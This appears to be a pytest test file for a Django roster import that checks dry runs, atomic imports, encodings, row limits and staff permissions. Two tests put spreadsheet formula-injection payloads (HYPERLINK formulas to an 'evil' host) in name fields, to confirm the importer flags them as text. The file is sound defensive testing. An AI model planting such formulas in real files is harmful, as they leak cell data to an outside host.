"""Roster import: the dry run says row by row what would happen and writes nothing; the import
writes everything or nothing; the same file twice creates nothing new; hostile files (wrong
columns, 100,000 rows, formulas, mixed encodings, huge, not a spreadsheet) get a sentence."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.users.models import UserProfile

from conference.jobs import JobContext, job_claim, job_run
from conference.models import Job
from registration.messaging.models import Message
from registration.models.registrations import Registration, StatusChange
from registration.programmes.demo_roster import (
    PATROL_COHORTS,
    ROSTER_PATH,
    patrol_roster_rows,
)
from registration.programmes.models import Cohort, Enrolment, RosterImport
from registration.programmes.permissions import programme_role_assign
from registration.programmes.roster import RosterFileError, roster_read
from registration.programmes.services import roster as services
from tests.factories import EventPageFactory, ProgrammePageFactory, StaffUserFactory

pytestmark = pytest.mark.django_db

HEADER = ["Given name", "Family name", "E-mail", "Sex", "Organisation", "Position", "Region",
          "Cohort code"]  # fmt: skip


def person(i: int, cohort: str = "kyiv-1", **values) -> list[str]:
    row = {
        "given": f"Олена{i}",
        "family": "Коваль",
        "email": f"olena.{i}@example.org",
        "sex": "female",
        "organisation": "Patrol police",
        "position": "inspector",
        "region": "",
        "cohort": cohort,
    }
    row.update(values)
    return list(row.values())


def csv_bytes(rows, header=HEADER, *, encoding="utf-8", delimiter=",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows, header=HEADER) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(content: bytes, name: str = "roster.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.fixture
def course():
    programme = ProgrammePageFactory(title="Patrol course")
    common = EventPageFactory(parent=programme, title="Opening", capacity=None)
    own = {}
    for code, region, capacity in (("kyiv-1", "Kyiv", None), ("kharkiv-1", "Kharkiv", 2)):
        cohort = Cohort.objects.create(
            programme=programme,
            code=code,
            region=region,
            capacity=capacity,
            name={"en": f"Cohort {code}"},
        )
        event = EventPageFactory(parent=programme, title=f"Course {code}", capacity=None)
        cohort.events.add(event)
        own[code] = (cohort, event)
    return programme, common, own


def dry_run(programme, content: bytes, name: str = "roster.csv") -> dict:
    roster_import = services.roster_upload(programme=programme, upload=upload(content, name))
    return roster_import.dry_run


def reasons_by_row(report: dict) -> dict[int, list[str]]:
    return {row["row"]: [r["code"] for r in row["reasons"]] for row in report["rows"]}


def import_now(roster_import: RosterImport) -> dict:
    services.roster_import_start(roster_import=roster_import)
    roster_import.refresh_from_db()
    assert job_run(job_id=roster_import.job_id) == "done"
    roster_import.refresh_from_db()
    return roster_import.dry_run


# --- the dry run ------------------------------------------------------------------------


def test_roster_dry_run_gives_each_row_its_reason_and_writes_nothing(course):
    programme, _common, own = course
    existing = Enrolment.objects.create(
        programme=programme,
        cohort=own["kyiv-1"][0],
        given_name="Iryna",
        family_name="Boiko",
        email="iryna@example.org",
        email_normalised="iryna@example.org",
        sex="female",
        organisation="Patrol police",
        language="uk",
    )
    rows = [
        person(1),  # 2: create
        person(2, email="not-an-address"),  # 3
        person(3, family=""),  # 4
        person(4, cohort="odesa-9"),  # 5
        person(5, region="Atlantis"),  # 6
        person(6, sex="unknown"),  # 7
        person(7, organisation='=HYPERLINK("http://evil/?"&A1,"x")'),  # 8
        person(1, cohort="kharkiv-1"),  # 9: same e-mail as row 2
        person(9, cohort="kharkiv-1", email="IRYNA@example.org"),  # 10: in kyiv-1 already
        person(10, cohort="kharkiv-1"),  # 11
        person(11, cohort="kharkiv-1"),  # 12
        person(12, cohort="kharkiv-1"),  # 13: third in a cohort of two
    ]

    report = dry_run(programme, csv_bytes(rows))

    assert reasons_by_row(report) == {
        2: [],
        3: ["bad_email"],
        4: ["missing"],
        5: ["unknown_cohort"],
        6: ["unknown_region"],
        7: ["unknown_value"],
        8: ["formula"],
        9: ["duplicate_in_file"],
        10: ["other_cohort"],
        11: [],
        12: [],
        13: ["over_capacity"],
    }
    assert report["counts"] == {"create": 3, "update": 0, "skip": 9}
    assert list(Enrolment.objects.all()) == [existing]
    assert Registration.objects.count() == 0


def test_roster_dry_run_page_shows_counts_and_reasons_in_the_staff_language(client, course):
    programme, _common, _own = course
    manager = StaffUserFactory()
    programme_role_assign(user=manager, programme=programme, role="registration_manager")
    client.force_login(manager)
    content = csv_bytes([person(1), person(2, email="nope")])

    response = client.post(
        reverse("programmes_roster:index", args=[programme.pk]),
        {"file": upload(content)},
    )
    roster_import = RosterImport.objects.get()
    page = client.get(response.url)

    assert response.url == reverse(
        "programmes_roster:detail", args=[programme.pk, roster_import.pk]
    )
    text = page.content.decode()
    assert "“nope” is not an e-mail address." in text
    assert 'data-count="create">1<' in text
    assert 'data-count="skip">1<' in text
    assert Enrolment.objects.count() == 0


# --- importing --------------------------------------------------------------------------


def test_roster_import_enrols_and_registers_once_per_event_without_e_mail(course):
    programme, common, own = course
    kyiv_event = own["kyiv-1"][1]
    # Someone already registered for the opening keeps that one registration.
    Registration.objects.create(
        event=common,
        status="awaiting_email",
        given_name="Olena1",
        family_name="Koval",
        email="olena.1@example.org",
        organisation="x",
        organisation_type="police",
        country="UA",
        sex="female",
        consent_version="t",
        consent_at=common.first_published_at,
    )
    roster_import = services.roster_upload(
        programme=programme, upload=upload(csv_bytes([person(1), person(2)]))
    )

    report = import_now(roster_import)

    assert report["done"] == {"enrolments": 2, "updated": 0, "registrations": 3}
    assert sorted(Enrolment.objects.values_list("email", "cohort__code", "region")) == [
        ("olena.1@example.org", "kyiv-1", "Kyiv"),
        ("olena.2@example.org", "kyiv-1", "Kyiv"),
    ]
    assert sorted(
        Registration.objects.values_list("event_id", "email_normalised", "status")
    ) == sorted(
        [
            (common.pk, "olena.1@example.org", "awaiting_email"),
            (common.pk, "olena.2@example.org", "confirmed"),
            (kyiv_event.pk, "olena.1@example.org", "confirmed"),
            (kyiv_event.pk, "olena.2@example.org", "confirmed"),
        ]
    )
    assert StatusChange.objects.filter(note="roster import").count() == 3
    assert Message.objects.count() == 0
    assert mail.outbox == []


def test_roster_imported_twice_creates_nothing_new_and_updates_what_changed(course):
    programme, _common, _own = course
    first = services.roster_upload(
        programme=programme, upload=upload(csv_bytes([person(1), person(2)]))
    )
    import_now(first)
    before = (Enrolment.objects.count(), Registration.objects.count())

    again = dry_run(programme, csv_bytes([person(1), person(2)]))
    changed = services.roster_upload(
        programme=programme,
        upload=upload(csv_bytes([person(1), person(2, position="senior inspector")])),
    )
    report = import_now(changed)

    assert again["counts"] == {"create": 0, "update": 0, "skip": 2}
    assert reasons_by_row(again) == {2: ["identical"], 3: ["identical"]}
    assert [p["code"] for p in again["problems"]] == ["nothing"]
    assert report["counts"] == {"create": 0, "update": 1, "skip": 1}
    assert (Enrolment.objects.count(), Registration.objects.count()) == before
    assert Enrolment.objects.get(email="olena.2@example.org").position == "senior inspector"


def test_roster_import_started_twice_runs_once(course):
    programme, _common, _own = course
    roster_import = services.roster_upload(
        programme=programme, upload=upload(csv_bytes([person(1)]))
    )
    import_now(roster_import)

    with pytest.raises(services.RosterError) as error:
        services.roster_import_start(roster_import=roster_import)

    assert error.value.code == "already"
    assert Enrolment.objects.count() == 1


def test_roster_import_is_all_or_nothing_when_row_3000_changed_since_the_dry_run(course):
    programme, _common, own = course
    rows = [person(i) for i in range(1, 3201)]
    roster_import = services.roster_upload(programme=programme, upload=upload(csv_bytes(rows)))
    job_run(job_id=roster_import.job_id)  # the dry run of a large file runs in the worker
    roster_import.refresh_from_db()
    assert roster_import.dry_run["counts"]["create"] == 3200
    # Row 3,000 (person 2,999) enrols elsewhere between the dry run and the import.
    Enrolment.objects.create(
        programme=programme,
        cohort=own["kharkiv-1"][0],
        given_name="Olena",
        family_name="Koval",
        email="olena.2999@example.org",
        email_normalised="olena.2999@example.org",
        sex="female",
        organisation="x",
        language="uk",
    )

    services.roster_import_start(roster_import=roster_import)
    roster_import.refresh_from_db()
    outcome = job_run(job_id=roster_import.job_id)
    roster_import.refresh_from_db()

    assert outcome == "failed"
    assert Enrolment.objects.count() == 1
    assert Registration.objects.count() == 0
    assert roster_import.imported_at is None
    assert roster_import.dry_run["import_error"]["code"] == "changed"


def test_roster_import_writes_nothing_when_the_database_refuses_mid_way(course, monkeypatch):
    programme, _common, _own = course
    roster_import = services.roster_upload(
        programme=programme, upload=upload(csv_bytes([person(i) for i in range(1, 40)]))
    )

    def refuse(*args, **kwargs):
        raise RuntimeError("disk full")

    # The status changes are written last: everything before them must roll back.
    monkeypatch.setattr(StatusChange.objects, "bulk_create", refuse)
    with pytest.raises(RuntimeError):
        services.roster_import_run(roster_import=roster_import)

    assert (Enrolment.objects.count(), Registration.objects.count()) == (0, 0)


def test_roster_worker_reports_progress_as_it_checks(course):
    programme, _common, _own = course
    rows = [person(i) for i in range(1, 1201)]
    roster_import = services.roster_upload(programme=programme, upload=upload(csv_bytes(rows)))
    job, token = job_claim(job_id=roster_import.job_id)
    seen: list[tuple[int, int]] = []

    class Recording(JobContext):
        def progress(self, done, total=None):
            super().progress(done, total)
            seen.append((done, Job.objects.get(pk=job.pk).progress))

    services.roster_dry_run_work(job=job, context=Recording(job, token))

    assert seen[0] == (0, 0)
    assert (250, 250) in seen
    assert (1000, 1000) in seen
    assert Job.objects.get(pk=job.pk).total == 1200


# --- hostile files ----------------------------------------------------------------------


def test_roster_with_wrong_columns_lists_the_expected_headers(course):
    programme, _common, _own = course
    content = csv_bytes([["a", "b"]], header=["Name", "Mail"])

    with pytest.raises(RosterFileError) as error:
        dry_run(programme, content)

    assert error.value.code == "wrong_columns"
    assert "“Family name”, “E-mail”, “Sex”, “Organisation”, “Cohort code”" in str(error.value)
    assert "Optional: “Position”, “Region”, “Role”, “Language”, “Country”" in str(error.value)
    assert RosterImport.objects.count() == 0


def test_roster_headers_are_read_in_russian_and_ukrainian(course):
    programme, _common, _own = course
    header = ["Имя", "Прізвище", "Електронна пошта", "Пол", "Організація", "Посада", "Регіон",
              "Код групи"]  # fmt: skip

    report = dry_run(programme, csv_bytes([person(1, sex="жіноча")], header=header))

    assert report["counts"]["create"] == 1


def test_roster_of_100000_rows_is_refused_without_reading_past_the_limit(course):
    programme, _common, _own = course
    rows = [",".join(person(i, given="Olena")) for i in range(1, 100_001)]
    # A byte no encoding reads after row 5,001: a reader that went on would say so instead.
    data = ("\r\n".join([",".join(HEADER), *rows[:5001]]) + "\r\n").encode()
    data += b"\x98\x98\r\n" + "\r\n".join(rows[5001:]).encode()

    with pytest.raises(RosterFileError) as error:
        dry_run(programme, data)

    assert error.value.code == "too_many_rows"
    assert "more than 5000 rows" in str(error.value)


def test_roster_xlsx_over_the_row_limit_is_refused(course, settings):
    programme, _common, _own = course
    settings.ROSTER_MAX_ROWS = 10

    with pytest.raises(RosterFileError) as error:
        dry_run(programme, xlsx_bytes([person(i) for i in range(11)]), "big.xlsx")

    assert error.value.code == "too_many_rows"


def test_roster_formula_cell_is_text_flagged_and_written_back_as_text(course):
    programme, _common, _own = course
    formula = '=HYPERLINK("http://evil.example/?"&C2,"Click")'
    report = dry_run(programme, xlsx_bytes([person(1, family=formula), person(2)]), "roster.xlsx")

    workbook = openpyxl.load_workbook(io.BytesIO(services.roster_report_xlsx(report=report)))
    cell = workbook.worksheets[0]["E2"]

    assert reasons_by_row(report)[2] == ["formula"]
    assert report["rows"][0]["family_name"] == formula
    assert (cell.value, cell.data_type) == (formula, "s")


def test_roster_csv_in_windows_1251_with_semicolons(course):
    programme, _common, _own = course
    content = csv_bytes([person(1, given="Олена")], encoding="cp1251", delimiter=";")

    report = dry_run(programme, content)

    assert report["counts"]["create"] == 1
    assert report["rows"][0]["given_name"] == "Олена"
    assert report["warnings"] == []


def test_roster_csv_in_utf8_with_a_byte_order_mark(course):
    programme, _common, _own = course
    content = b"\xef\xbb\xbf" + csv_bytes([person(1, given="Ярослава")])

    report = dry_run(programme, content)

    assert report["rows"][0]["given_name"] == "Ярослава"
    assert report["counts"]["create"] == 1


def test_roster_csv_mixing_encodings_is_read_with_a_warning(course):
    programme, _common, _own = course
    content = csv_bytes([person(1, given="Олена")]) + ",".join(person(2, given="Тарас")).encode(
        "cp1251"
    )

    report = dry_run(programme, content)

    assert [r["given_name"] for r in report["rows"]] == ["Олена", "Тарас"]
    assert report["warnings"] == [
        "The file mixes encodings: 1 line was read as Windows-1251, the others as UTF-8. "
        "Check the names in the report."
    ]


def test_roster_csv_that_no_encoding_reads_names_the_line(course):
    programme, _common, _own = course
    content = csv_bytes([person(1)]) + b"\x98bad\r\n"

    with pytest.raises(RosterFileError) as error:
        dry_run(programme, content)

    assert error.value.code == "encoding"
    assert str(error.value).startswith("Line 3 cannot be read as UTF-8 or Windows-1251 text.")


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "photo.csv", "not_spreadsheet"),
        (b"%PDF-1.7\n...", "list.xlsx", "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "old.xls", "old_excel"),
        (b"PK\x03\x04garbage", "roster.xlsx", "damaged"),
        (b"", "empty.csv", "no_rows"),
    ],
)
def test_roster_that_is_not_a_spreadsheet_is_refused(course, content, name, code):
    programme, _common, _own = course

    with pytest.raises(RosterFileError) as error:
        dry_run(programme, content, name)

    assert error.value.code == code


def test_roster_upload_over_the_size_limit_is_refused_with_a_sentence(client, course, settings):
    programme, _common, _own = course
    settings.ROSTER_MAX_BYTES = 1024 * 1024
    organiser = StaffUserFactory()
    programme_role_assign(user=organiser, programme=programme, role="organiser")
    client.force_login(organiser)

    response = client.post(
        reverse("programmes_roster:index", args=[programme.pk]),
        {"file": upload(b"a" * (1024 * 1024 + 1))},
    )

    assert response.status_code == 200
    assert "The file is larger than 1 MB. Split it into smaller files." in response.content.decode()
    assert RosterImport.objects.count() == 0


# --- staff ------------------------------------------------------------------------------


def test_roster_screens_refuse_staff_of_another_programme(client, course):
    programme, _common, _own = course
    roster_import = services.roster_upload(
        programme=programme, upload=upload(csv_bytes([person(1)]))
    )
    other = ProgrammePageFactory(title="Another programme")
    stranger = StaffUserFactory()
    programme_role_assign(user=stranger, programme=other, role="organiser")
    client.force_login(stranger)
    urls = [
        reverse("programmes_roster:index", args=[programme.pk]),
        reverse("programmes_roster:template", args=[programme.pk]),
        reverse("programmes_roster:detail", args=[programme.pk, roster_import.pk]),
        reverse("programmes_roster:progress", args=[programme.pk, roster_import.pk]),
        reverse("programmes_roster:report", args=[programme.pk, roster_import.pk]),
        # Their own programme's URL with this import: not found.
        reverse("programmes_roster:detail", args=[other.pk, roster_import.pk]),
    ]

    answers = [client.get(url, follow=True) for url in urls]
    posted = client.post(urls[2], follow=True)

    # Wagtail turns the guard's 403 into "Sorry, you do not have permission" on the dashboard.
    dashboard = [(reverse("wagtailadmin_home"), 302)]
    assert [a.redirect_chain for a in answers[:5]] == [dashboard] * 5
    assert answers[5].status_code == 404
    assert posted.redirect_chain == dashboard
    assert all("olena" not in a.content.decode().lower() for a in answers)
    assert Enrolment.objects.count() == 0


def test_roster_template_has_the_headers_in_the_staff_language(client, course):
    programme, _common, _own = course
    organiser = StaffUserFactory()
    programme_role_assign(user=organiser, programme=programme, role="organiser")
    client.force_login(organiser)

    profile = UserProfile.get_for_user(organiser)
    profile.preferred_language = "uk"
    profile.save()

    response = client.get(reverse("programmes_roster:template", args=[programme.pk]))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    header = [c.value for c in workbook.worksheets[0][1]]
    with pytest.raises(RosterFileError) as error:
        roster_read(io.BytesIO(response.content), filename="template.xlsx")

    assert header[:3] == ["Ім’я", "Прізвище", "Електронна пошта"]
    # The template's own headers are read back: it lacks only people.
    assert error.value.code == "no_rows"


def test_roster_confirmed_on_the_page_shows_the_summary_when_done(client, course):
    programme, _common, _own = course
    organiser = StaffUserFactory()
    programme_role_assign(user=organiser, programme=programme, role="organiser")
    client.force_login(organiser)
    roster_import = services.roster_upload(
        programme=programme, upload=upload(csv_bytes([person(1), person(2)]))
    )
    url = reverse("programmes_roster:detail", args=[programme.pk, roster_import.pk])

    client.post(url)
    roster_import.refresh_from_db()
    waiting = client.get(
        reverse("programmes_roster:progress", args=[programme.pk, roster_import.pk])
    ).json()
    job_run(job_id=roster_import.job_id)
    done = client.get(url).content.decode()

    assert (waiting["state"], waiting["finished"]) == ("importing", False)
    assert "2 people enrolled." in done
    assert Enrolment.objects.count() == 2


# --- the demo roster --------------------------------------------------------------------


def test_demo_roster_file_is_the_generator_output_and_imports():
    programme = ProgrammePageFactory(title="Patrol police course")
    for code, region, _city in PATROL_COHORTS:
        Cohort.objects.create(
            programme=programme, code=code, region=region, capacity=180, name={"en": code}
        )
    with ROSTER_PATH.open("rb") as handle:
        shipped = roster_read(handle, filename=ROSTER_PATH.name)
    expected = patrol_roster_rows()

    plan = services.roster_plan(programme=programme, roster=shipped)

    assert len(shipped.rows) == len(expected) == 3500
    assert [r.values["email"] for r in shipped.rows] == [row[2] for row in expected]
    assert ROSTER_PATH.stat().st_size < 400_000
    skipped = {r["code"] for row in plan.report["rows"] for r in row["reasons"]}
    assert skipped == {
        "bad_email",
        "missing",
        "unknown_cohort",
        "unknown_region",
        "formula",
        "unknown_value",
        "duplicate_in_file",
    }
    assert plan.report["counts"] == {"create": 3493, "update": 0, "skip": 7}


def test_roster_page_says_so_when_the_worker_could_not_finish(client, course):
    programme, _common, _own = course
    organiser = StaffUserFactory()
    programme_role_assign(user=organiser, programme=programme, role="organiser")
    client.force_login(organiser)
    rows = [person(i) for i in range(1, 601)]
    roster_import = services.roster_upload(programme=programme, upload=upload(csv_bytes(rows)))
    roster_import.upload.delete(save=False)  # the file is gone before the worker reads it

    outcome = job_run(job_id=roster_import.job_id)
    page = client.get(reverse("programmes_roster:detail", args=[programme.pk, roster_import.pk]))

    assert outcome == "failed"
    assert "The worker could not finish this file." in page.content.decode()
    assert Enrolment.objects.count() == 0
